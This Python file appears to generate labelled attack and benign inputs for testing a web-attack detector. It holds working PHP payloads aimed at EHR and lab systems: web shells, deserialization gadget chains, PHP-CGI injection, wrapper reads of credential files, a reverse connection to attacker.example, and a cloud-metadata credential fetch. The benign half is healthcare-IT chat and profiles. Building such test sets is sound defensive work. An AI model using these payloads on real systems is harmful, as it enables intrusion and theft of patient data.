    "['system'][0]('id');",
    '"system"(\'id\');',
    "(new ReflectionFunction('system'))->invoke('id');",
    "$c=$_COOKIE;$c['f']($c['a']);",
    "implode('',['sy','st','em'])('id');",
    "str_replace('x','','sxyxsxtexm')('id');",
    "$k='pass'.'thru';@$k($_REQUEST['q']);",
    "array_map($_GET['f'],[$_GET['c']]);",
    "${'_'.'GET'}['a'](${'_'.'GET'}['b']);",
    "$a=explode(',','sys,tem');($a[0].$a[1])('id');",
    "(sprintf('%s%s','sys','tem'))('id');",
    "call_user_func(strrev('tressa'),'system(\"id\")');",
    "(strtolower('SYSTEM'))('id');",
    "$GLOBALS['_GET']['x']($GLOBALS['_GET']['y']);",
]

# php-wrappers: stream wrappers handed to include/file_get_contents through a file or page parameter
WRAPPERS: list[Entry] = [
    # OpenEMR/LibreHealth ?formname= / ?site= reaching an include (PHP interpreter)
    "php://filter/convert.base64-encode/resource=/var/www/html/openemr/sites/default/sqlconf.php",
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=../database.php",
    "php://filter/string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.quoted-printable-encode/resource=../sites/default/config.php",
    "php://filter/read=string.toupper|string.rot13/resource=interface/globals.php",
    "php://filter/resource=http://attacker.example/shell.txt",
    "php://input",
    "PHP://filter/convert.base64-encode/resource=/etc/hostname",
    # data:// when allow_url_include is on (PHP interpreter)
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data://text/plain,<?php system('id');?>",
    "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data:text/plain,<?php echo shell_exec($_GET['c']);?>",
    # phar:// on an uploaded file: metadata unserialized (PHP interpreter; a DICOM preamble hides the stub)
    "phar:///var/www/html/openemr/sites/default/documents/1/lab_result.jpg/x",
    "phar://./uploads/dicom/IM0001.dcm/test.txt",
    "phar://uploads/patient-photo.gif",
    # expect:// (PHP interpreter with the expect extension)
    "expect://id",
    "expect://cat /etc/passwd",
    # zip:// and rar:// on an uploaded archive of lab exports (PHP interpreter)
    "zip:///var/www/html/uploads/results.zip#shell.php",
    "zip://uploads/avatar.jpg%23shell",
    "rar://uploads/export.rar#shell.php",
    # glob:// to list the sites and their credentials files (PHP interpreter)
    "glob:///var/www/html/openemr/sites/*/sqlconf.php",
    "glob://../*.php",
    "compress.zlib:///etc/passwd",
    "ssh2.exec://root:root@10.0.0.5:22/id",
    "file:///etc/passwd",
]

# php-object-injection: serialized values reaching unserialize() (cookies, hidden "state" fields, phar metadata)
OBJECT_INJECTION: list[Entry] = [
    # Laravel telehealth back end: PendingBroadcast -> Faker\Generator formatters (Laravel 5.x gadget, PHP)
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:'
    '{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
    # Laravel: PendingBroadcast -> Bus\Dispatcher queueResolver (PHP)
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:25:"Illuminate\\Bus\\'
    'Dispatcher":1:{s:16:"\x00*\x00queueResolver";s:6:"system";}s:8:"\x00*\x00event";O:38:"Illuminate\\'
    'Broadcasting\\BroadcastEvent":1:{s:10:"connection";s:2:"id";}}',
    # Monolog in a PHP LIMS: SyslogUdpHandler -> BufferHandler processors (Monolog 1.x gadget, PHP)
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:'
    '{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:'
    '{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:'
    '"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
    # Guzzle in a claims integration: FileCookieJar writes a PHP file on destruct (PHP)
    'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";'
    's:23:"/var/www/html/shell.php";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;'
    's:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:'
    '{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";'
    "s:28:\"<?php system($_GET['c']); ?>\";}}}s:39:\"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode\";N;}",
    # Guzzle PSR-7 FnStream calls _fn_close on destruct (PHP)
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:'
    '{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
    # patient portal "remember me" cookie: type juggling, true == any password (PHP loose comparison)
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    "YToyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjg6InBhc3N3b3JkIjtiOjE7fQ==",
    'a:2:{s:4:"role";s:5:"admin";s:7:"user_id";i:1;}',
    'O:8:"stdClass":1:{s:5:"admin";b:1;}',
    # filter bypasses: O:+8, S: hex-escaped strings, custom-serialized C: (PHP unserialize)
    'O:+8:"stdClass":1:{s:5:"admin";b:1;}',
    'O:8:"stdClass":1:{S:5:"\\61dmin";b:1;}',
    'C:11:"ArrayObject":52:{x:i:0;a:0:{};m:a:1:{s:5:"admin";O:8:"stdClass":0:{}}}',
    'a:1:{i:0;C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}}',
    "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
    # OWASP's textbook class: the cache file is deleted on destruct (application class, PHP)
    'O:8:"Example1":1:{s:10:"cache_file";s:15:"../../index.php";}',
    # session serializer injection: a "|" in a stored field starts a new session key (PHP session handler)
    'x|O:8:"stdClass":1:{s:7:"isAdmin";b:1;}',
    'authUser|s:5:"admin";authUserID|i:1;authProvider|s:7:"Default";',
    # nested references exhaust memory on unserialize (PHP)
    "a:1:{i:0;a:1:{i:0;a:1:{i:0;a:1:{i:0;a:1:{i:0;a:1:{i:0;a:1:{i:0;R:2;}}}}}}}",
    # same objects URL-encoded, as they travel in a cookie (PHP)
    "O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A5%3A%22admin%22%3Bb%3A1%3B%7D",
    'a:1:{s:7:"filters";O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}}',
]

# php-config-directives: php.ini, .user.ini and .htaccess settings, PHP-CGI -d arguments
CONFIG: list[Entry] = [
    # PHP-CGI query string becomes argv (CVE-2012-1823): prepend the request body as code (php-cgi)
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", *RAWQ),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_fopen%3dOn+-d+allow_url_include%3dOn"
     "+-d+auto_prepend_file%3dphp://input", *RAWQ),
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://attacker.example/s.txt", *RAWQ),
    ("-s", *RAWQ),
    # the same through the Windows best-fit soft hyphen (CVE-2024-4577, php-cgi on a clinic's XAMPP)
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *RAWQ),
    ("%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input", *RAWQ),
    # .user.ini written through a LIMS report-template editor (PHP-FPM per-directory ini)
    "auto_prepend_file=php://input",
    "allow_url_include=On",
    "auto_append_file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "auto_prepend_file=/var/www/html/openemr/sites/default/documents/logo.png",
    "auto_prepend_file=\"/proc/self/environ\"",
    # .htaccess written through a file manager in the practice-management app (Apache mod_php)
    'php_value auto_prepend_file "/var/www/html/uploads/avatar.jpg"',
    "php_value auto_append_file /etc/passwd",
    "php_flag engine on",
    "php_flag register_globals on",
    "AddType application/x-httpd-php .dcm",
    "AddHandler application/x-httpd-php .hl7",
    '<Files ~ "\\.dcm$">SetHandler application/x-httpd-php</Files>',
    # runtime ini_set() from an eval sink (PHP interpreter)
    "ini_set('error_log','/var/www/html/e.php');error_log('<?php system($_GET[c]);?>');",
    "mkdir('x');chdir('x');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');"
    "ini_set('open_basedir','/');echo file_get_contents('/etc/passwd');",
    "ini_set('include_path','/tmp');include('s.php');",
    # PHP-FPM path_info underflow (CVE-2019-11043): FastCGI PHP_VALUE lines (php-fpm behind nginx)
    "PHP_VALUE\nsession.auto_start=1;;;",
    "PHP_VALUE\nauto_prepend_file=php://input",
    "PHP_ADMIN_VALUE\nallow_url_include=On",
]

# superglobals: register_globals / extract() / parse_str() overwrites and code reading attacker-set superglobals
SUPERGLOBALS: list[Entry] = [
    # legacy clinic scheduler calls extract($_REQUEST): overwrite the session role (PHP)
    ("_SESSION[user_role]=admin", *RAWQ),
    ("_SESSION[authUser]=admin&_SESSION[authUserID]=1", *RAWQ),
    ("_SERVER[REMOTE_ADDR]=127.0.0.1", *RAWQ),
    ("_SERVER[DOCUMENT_ROOT]=http://attacker.example/", *RAWF),
    ("GLOBALS[_SESSION][is_admin]=1", *RAWQ),
    ("_FILES[upload][tmp_name]=/etc/passwd&_FILES[upload][name]=report.pdf", *RAWF),
    ("_COOKIE[PHPSESSID]=attacker", *RAWQ),
    ("GLOBALS[srcdir]=http://attacker.example/", *RAWF),
    ("_ENV[PATH]=/tmp", *RAWQ),
    # code that reads attacker-controlled superglobals, written into an eval sink (PHP interpreter)
    "system($_SERVER['HTTP_X_CMD']);",
    "@eval($_COOKIE['z']);",
    "@eval($_SERVER['HTTP_USER_AGENT']);",
    "include $_REQUEST['page'];",
    "echo $_ENV['DB_PASSWORD'];",
    "print_r($_SERVER);",
    "var_dump($GLOBALS);",
    "$_SESSION['is_admin']=1;",
    "$_POST[0]($_POST[1]);",
    "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/'.$_FILES['f']['name']);",
    "echo $_SERVER['DOCUMENT_ROOT'];",
    "$HTTP_POST_VARS['cmd']",
    "eval($HTTP_GET_VARS['code']);",
    "extract($_GET);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "passthru($_REQUEST['cmd']);",
]

# php-file-upload: names that make the web server run the upload as PHP (Apache mod_php, php-fpm, IIS)
FILE_UPLOAD: list[Entry] = [
    # EHR document upload (scanned referrals, insurance cards, lab PDFs)
    ("shell.php", *UP),
    ("lab_result.php.jpg", *UP),
    ("xray.jpg.php", *UP),
    ("study.phtml", *UP),
    ("report.php5", *UP),
    ("report.php7", *UP),
    ("scan.pht", *UP),
    ("consent.phar", *UP),
    ("insurance_card.PhP", *UP),
    ("referral.pHtMl", *UP),
    ("discharge.php3", *UP),
    ("discharge.php4", *UP),
    # Windows IIS/Apache quirks on a clinic's on-premise server
    ("referral.php.", *UP),
    ("referral.php ", *UP),
    ("ecg.php::$DATA", *UP),
    ("photo.jpg;.php", *UP),
    ("photo.asp;.jpg", *UP),
    ("avatar.php%00.jpg", *UP),
    ("avatar.php\x00.png", *UP),
    # overwrite server configuration through the upload directory
    (".htaccess", *UP),
    (".user.ini", *UP),
    # PACS/DICOM and HL7 exports given a PHP extension
    ("IM0001.dcm.php", *UP),
    ("export.hl7.php", *UP),
    ("result.php.xxx", *UP),
    # path traversal in the file name into the web root
    ("../../../var/www/html/openemr/s.php", *UP),
    ("..\\..\\..\\inetpub\\wwwroot\\s.php", *UP),
    ("filename*=UTF-8''shell.php", *UP),
]

# php-high-risk-function-names: dangerous functions named in input (eval sinks, callback parameters)
HIGH_RISK: list[Entry] = [
    # JSONP/AJAX "callback" and "function" parameters fed to call_user_func in a WordPress booking plugin (PHP)
    ("callback=system&arg=id", *RAWQ),
    ("action=call&func=passthru&args[]=id", *RAWQ),
    ("sort_callback=assert&sort_key=phpinfo()", *RAWF),
    ("filter=exec&value=id", *RAWQ),
    # disable_functions bypasses through an eval sink (PHP interpreter)
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a@b','c','d');",
    "FFI::cdef('int system(const char *command);')->system('id');",
    "imap_open('{attacker.example:143/imap}INBOX -oProxyCommand=echo\\taWQ=|base64\\t-d|sh}','','');",
    "mail('x@attacker.example','s','b','','-OQueueDirectory=/tmp -X/var/www/html/m.php');",
    "dl('evil.so');",
    # reading secrets and the environment (PHP interpreter)
    "highlight_file('/var/www/html/openemr/sites/default/sqlconf.php');",
    "show_source('config.php');",
    "readfile('/etc/passwd');",
    "print_r(file('/etc/shadow'));",
    "print_r(scandir('/'));",
    "print_r(glob('/var/www/*'));",
    "echo php_uname();",
    "print_r(ini_get_all());",
    "print_r(get_defined_vars());",
    "posix_getpwuid(posix_geteuid());",
    # persistence and outbound connections (PHP interpreter)
    "file_put_contents('s.php',base64_decode('PD9waHAgc3lzdGVtKCRfUkVRVUVTVFsnY21kJ10pOz8+'));",
    "fwrite(fopen('s.php','w'),'<?php system($_GET[0]);');",
    "symlink('/','root');",
    "chmod('s.php',0777);",
    "stream_socket_client('tcp://attacker.example:4444');",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/iam/security-credentials/'));",
    "eval(gzinflate(base64_decode($_POST['p'])));",
    "unserialize($_COOKIE['prefs']);",
    "posix_kill(getmypid(),9);",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JS_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOM_SINK),
    ("xss", "ie-filter-style", IE_FILTER),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-client-template", CLIENT_TEMPLATE),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT_INJECTION),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", FILE_UPLOAD),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]
# sub-families whose fixed entries are already a query string or `name=value` pairs, sent unquoted
RAW_SUBS = {"php-config-directives", "superglobals", "php-high-risk-function-names",
            "template-literal-dom-sink"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_SUBS
    # PHP-CGI argument strings keep their own %3d and + (the exploit's exact query string)
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"
    unique = True
    xml_controls = "\n\t\r"
    names = ["q", "name", "family", "note", "comment", "returnUrl", "message", "title", "given"]
    php_names = ["file", "page", "formname", "site", "template", "data", "callback", "config", "lang"]

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.php_names if category == "php" else self.names
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A fixed query-string entry of a raw sub-family (a JSON document or an upload name is not)."""
        return fixed and sub in self.raw_subs and not payload.startswith(("{", "["))


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (clinicians, lab staff and health-IT engineers in Slack, their bios,
# directory searches by ward or department, portal and documentation links, profiles, export and DICOM file
# names, ordinary headers)
CHAT = [
    # interface team
    "ADT feed from Epic is backed up again, 412 messages in the Mirth queue, looking now",
    "the ORU^R01 from the lab has OBX-5 longer than 64k for the pathology reports, the channel truncates it",
    "MSH|^~\\&|LAB|MAINHOSP|EHR|MAINHOSP|20240611083000||ORU^R01|123456|P|2.5.1 is what we get, no MSH-21",
    "PID-5 comes as DOE^JANE^M, the portal expects given before family, mapping fixed in the transformer",
    "the NTE segments after OBX are comments from the tech, show them under the result please",
    "anyone know why the A08 updates arrive before the A04? ordering on the inbound channel is off",
    "HL7 escape sequences \\F\\ and \\S\\ were not decoded in the viewer, fix is in 3.2.1",
    "interface error: 'Segment PV1 missing required field PV1-2 (patient class)' for all ED messages since 07:10",
    "the ACK says AE with 'Unknown facility code MAINHOSP', who changed the facility table?",
    "we should stop sending the raw HL7 to the web log, it has PHI in PID",
    # FHIR and APIs
    "GET /fhir/Patient?family=smith&birthdate=ge1980-01-01&_count=50 returns 50 but total says 212",
    "_include=MedicationRequest:medication works on the test server, prod HAPI returns an OperationOutcome",
    "try Observation?code=http://loinc.org|4548-4&_sort=-date&_count=1 for the latest HbA1c",
    "Patient/123/$everything times out for the chronic patients, we need _since or paging",
    "the _filter parameter isn't supported by our FHIR server, use chained search subject:Patient.name=smith",
    "the SMART launch fails with invalid redirect_uri, it must match the registered one exactly",
    "the narrative text.div must be XHTML with the xmlns, the validator rejects plain div tags",
    "we return application/fhir+json now; the old clients still send _format=json and that still works",
    "bulk export via $export is ready, the ndjson files land in the bucket overnight",
    "the token endpoint wants client_assertion_type jwt-bearer for the backend services app",
    # lab and clinical
    "potassium 5.9 mmol/L (ref 3.5-5.1) flagged H, repeat sample requested, likely haemolysed",
    "HbA1c 6.8% (ref < 5.7%), the template now prints the reference range next to the value",
    "eGFR > 90 shows as >90 in the portal, the greater-than sign was missing before",
    "troponin I < 0.01 ng/mL, the analyser sends the less-than as a separate field in OBX-8",
    "new INR range for warfarin patients is 2.0-3.0, please update the order set",
    "sample 24-LAB-004512 is on hold, the tube label says EDTA but the order wants serum",
    "the LIMS rejects barcodes with a trailing space, the scanner config is fixed on bench 3",
    "CBC panel results came back, WBC 11.2 x10^9/L (ref 4.0-11.0), flagged high",
    "paracetamol 1 g every 6 hours, max 4 g in 24 hours, please check the e-prescribing default",
    "amoxicillin 500 mg TDS for 5 days, the pharmacy system shows 'tds' in lower case, fine",
    "metformin 500mg BD, SNOMED 109081006 maps to the right product in the formulary",
    "ICD-10 E11.9 vs E11.65 in the claims export, billing wants the more specific one",
    "the CPT 99213 modifier 25 claim got denied again, sending to the billing team",
    # scheduling and portals
    "the appointment booking page shows slots in UTC, clinic wants local time",
    "patient portal password reset e-mails go to spam at outlook.com, IT is checking SPF",
    "telehealth visits for cardiology are moving to the new platform on Monday",
    "the waiting room page in the video visit freezes on Safari 16, known issue, upgrade helps",
    "REDCap survey for the asthma study goes live Tuesday; branching logic: [age] >= 18 and [consent] = '1'",
    "the calculated field is round([weight]/([height]*[height])*10000,1), height in cm",
    "REDCap piping shows [first_name] in the survey intro, the IRB approved the wording",
    "the OpenEMR upgrade to 7.0.2 is scheduled for Saturday night, portal will be down 2 hours",
    "OpenEMR's sites/default/sqlconf.php permissions were 644, changed to 640 as the audit asked",
    # imaging
    "the PACS viewer can't open study 1.2.840.113619.2.55.3.604688119.868.1700000000.123, CT with 2400 slices",
    "WADO-RS URL for the thumbnail: /dicomweb/studies/{study}/series/{series}/rendered, works in OHIF",
    "PatientName in the DICOM header is DOE^JANE, the modality worklist had it right",
    "the ultrasound machine sends SR objects, the viewer shows them as a blank page",
    "the MRI export on the CD has a DICOMDIR and an autorun viewer, don't run the exe",
    # health-IT ops and security
    "the WAF blocked a lab comment with 'select' and 'union' in it, false positive, ticket opened",
    "the device management console for the infusion pumps only works in IE mode, Edge policy updated",
    "security training reminder: never paste patient names in Slack, use the MRN and only in #clinical-ops",
    "pen test found a stored XSS in the old referral form, fixed by escaping output in the template",
    "we disabled PHP's allow_url_include everywhere years ago, checked the php.ini on the LIMS box anyway",
    "the php-fpm pool on the portal server is restarting, error log says 'Allowed memory size exhausted'",
    "the web shell scan came back clean on all the PHP servers, report in the security folder",
    "upload limit on the document module is 20 MB, scanned referrals at 300 dpi go over that",
    "the billing portal javascript bundle is 4 MB, the vendor says they will split it",
    "the old intranet still uses jQuery 1.8, the upgrade is on the roadmap",
    "our Angular patient app got a CSP with script-src 'self' last sprint, no inline scripts left",
    "the Vue front end of the scheduler escapes everything, v-html is only used for the vetted help texts",
    # bios
    "Integration engineer, HL7 v2 and FHIR. Mirth, Rhapsody, a bit of HAPI. Ask me about ADT feeds.",
    "Clinical lab scientist, haematology. LIMS superuser on nights.",
    "Radiology informatics: PACS admin, DICOM routing, occasional OHIF hacker.",
    "Nurse informaticist, ward 7B. Order sets, MAR, and the eternal quest for fewer clicks.",
    "Pharmacist, e-prescribing and formulary build. Dose checks are my love language.",
    "Research data manager, REDCap and OMOP. I will ask you for a data dictionary.",
    "Billing analyst, claims and remits (837/835). X12 is my second language.",
    "PHP developer on the patient portal and the OpenEMR customisations.",
    "Telehealth product owner. Video visits, waiting rooms, and interpreters on the call.",
    "Biomedical engineer, device management console and pump libraries.",
]

SEARCHES = [
    "cardiology", "ward 7B", "ICU nights", "radiology PACS admin", "lab haematology", "pharmacy e-prescribing",
    "billing claims", "REDCap", "OpenEMR", "HL7 interface team", "FHIR API", "telehealth", "oncology day unit",
    "emergency department", "paediatrics", "maternity", "theatres", "infection control", "medical records",
    "health information management", "biomedical engineering", "clinical informatics", "DICOM", "LIMS",
    "pathology", "microbiology", "physio", "outpatients", "patient portal support", "scheduling",
    "o'neill", "d'souza", "nurse-in-charge", "on-call registrar", "PHP developer", "Mirth", "Epic analyst",
    "Cerner", "ward 4 (surgical)", "A&E", "CT/MRI", "HbA1c", "ICD-10 coding", "discharge team", "script writer",
    "data warehouse", "ECG technician", "sterile services", "site: north campus", "team:interfaces",
]

URLS = [
    "https://hl7.org/fhir/R4/search.html#include",
    "https://hl7.org/fhir/R4/patient-operation-everything.html",
    "https://hl7.org/fhir/R4/narrative.html",
    "https://hl7.org/fhir/R4/observation.html",
    "https://build.fhir.org/ig/HL7/bulk-data/export.html",
    "https://www.hl7.org/implement/standards/product_brief.cfm?product_id=185",
    "https://hapifhir.io/hapi-fhir/docs/server_plain/rest_operations.html",
    "https://www.dicomstandard.org/using/dicomweb",
    "https://dicom.nema.org/medical/dicom/current/output/chtml/part18/sect_6.5.html",
    "https://docs.ohif.org/configuration/url",
    "https://loinc.org/4548-4",
    "https://www.open-emr.org/wiki/index.php/OpenEMR_7.0.2_Users_Guide",
    "https://projectredcap.org/resources/",
    "https://docs.smarthealthit.org/authorization/",
    "https://www.nextgen.com/products-and-services/patient-portal",
    "https://portal.example-hospital.org/mychart/appointments?dept=cardiology&date=2024-06-11",
    "https://lims.example-hospital.org/samples/24-LAB-004512",
    "https://pacs.example-hospital.org/viewer?StudyInstanceUIDs=1.2.840.113619.2.55.3.604688119.868",
    "https://fhir.example-hospital.org/R4/Patient?family=smith&_count=50",
    "https://redcap.example-hospital.org/surveys/?s=KX8LWN3T9P",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
]

PROSE = [
    "HL7 interface errors, week 23",
    "FHIR _include and _revinclude questions",
    "patients with appointments on ward 7B tomorrow",
    "lab results outside reference range, potassium",
    "e-prescribing dose check alerts",
    "claims denied with modifier 25",
    "PACS viewer script timeout",
    "telehealth waiting room issues",
    "REDCap branching logic help",
    "OpenEMR PHP upgrade checklist",
    "PID-5 name order in the ADT feed",
    "OBX-5 text too long for the portal",
    "DICOM PatientName with ^ separators",
    "WADO thumbnail errors",
    "device console IE mode",
    "sample on hold: wrong tube",
    "on-call pharmacist, nights",
    "script for the Monday huddle",
    "system downtime procedure (EHR)",
    "eval of the new triage form",
    "ward 4 (surgical) staff list",
    "clinic template: 15 min slots",
    "data:text exports from the warehouse",
    "reference range < 5.7%",
    "allergy: penicillin (rash)",
    "ICD-10 E11.9 coding review",
    "Dr. O'Neill's outpatient list",
    "object storage for DICOM archive",
    "include path for the portal theme",
    "upload of scanned referrals fails",
]

PROFILES = [
    ("Dr. Aisha O'Neill", "Cardiology, Ward 7B, North Campus"),
    ("Tomás Pereira", "Clinical Informatics, Building 2, Floor 3"),
    ("Mei Lin", "Haematology Lab, Pathology Block"),
    ("Rahul D'Souza", "Pharmacy, Main Hospital Basement"),
    ("Grace Okafor", "Radiology / PACS, Imaging Centre"),
    ("Jonas Becker", "HL7 Interfaces, IT Annex"),
    ("Sofia Rossi", "Patient Portal Support, Remote"),
    ("Liam Murphy", "Billing & Claims, Finance Wing"),
    ("Nadia Haddad", "Research Data (REDCap), University Campus"),
    ("Kenji Watanabe", "Biomedical Engineering, Workshop B"),
    ("Emma Script", "Medical Records, Level 1"),
    ("Oliver Frame", "Telehealth, Outpatients Hub"),
    ("Dr. Priya Evalani", "Emergency Department, A&E"),
    ("Ana Select", "Microbiology, Pathology Block"),
    ("Samuel Include", "ICU, Level 4"),
    ("Fatima Zahra", "Maternity, Women's Health Centre"),
    ("Lukas Novak", "Theatres, Surgical Block"),
    ("Chloe Dubois", "Paediatrics, Children's Ward"),
    ("Mohammed Al-Amin", "Infection Control, Admin Building"),
    ("Hannah Schmidt", "Physiotherapy, Rehab Unit"),
]

UPLOAD_NAMES = [
    "CT_HEAD_20240611_1.2.840.113619.2.55.3.zip", "IM0001.dcm", "DICOMDIR", "ultrasound_SR.dcm",
    "lab_results_2024-06.csv", "ORU_R01_sample.hl7", "adt_feed_errors_week23.txt", "Patient_123_everything.json",
    "bulk_export_Observation.ndjson", "redcap_data_dictionary.csv", "REDCap_asthma_study_export.xlsx",
    "claims_837_batch_0611.x12", "remit_835_2024-06.txt", "formulary_update_June.xlsx",
    "discharge-summary-template.docx", "referral_scan_300dpi.pdf", "insurance_card_front.jpg",
    "openemr-7.0.2-upgrade-notes.pdf", "php.ini.sample", "portal-theme.css", "wound_photo_day3.png",
    "ecg_12lead.pdf", "consent_form_v4.pdf", "device_inventory_pumps.csv", "ward7B_rota_july.xlsx",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "HAPI-FHIR/6.10.0 (FHIR Client; FHIR 4.0.1/R4; apache)"),
    ("User-Agent", "Mirth Connect/4.4.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "curl/8.7.1"),
    ("Referer", "https://portal.example-hospital.org/mychart/appointments?dept=cardiology"),
    ("Referer", "https://pacs.example-hospital.org/viewer?StudyInstanceUIDs=1.2.840.113619.2.55.3"),
    ("Referer", "https://hl7.org/fhir/R4/search.html"),
    ("Referer", "https://redcap.example-hospital.org/redcap_v14.0.10/index.php?pid=42"),
    ("Referer", "https://ehr.example-hospital.org/interface/patient_file/summary/demographics.php?set_pid=123"),
    ("Accept", "application/fhir+json"),
    ("Accept", "application/dicom+json"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2c1e4b-9a3f-4c8e-b1d5-3e6f0a9c2b71"),
    ("Accept-Language", "en-GB,en;q=0.9,pt;q=0.6"),
    ("Cookie", "session=abc123; ward=7B; tz=Europe%2FLondon"),
    ("Cookie", "session=abc123; last_search=cardiology; page_size=50"),
    ("X-Forwarded-For", "10.20.30.40"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
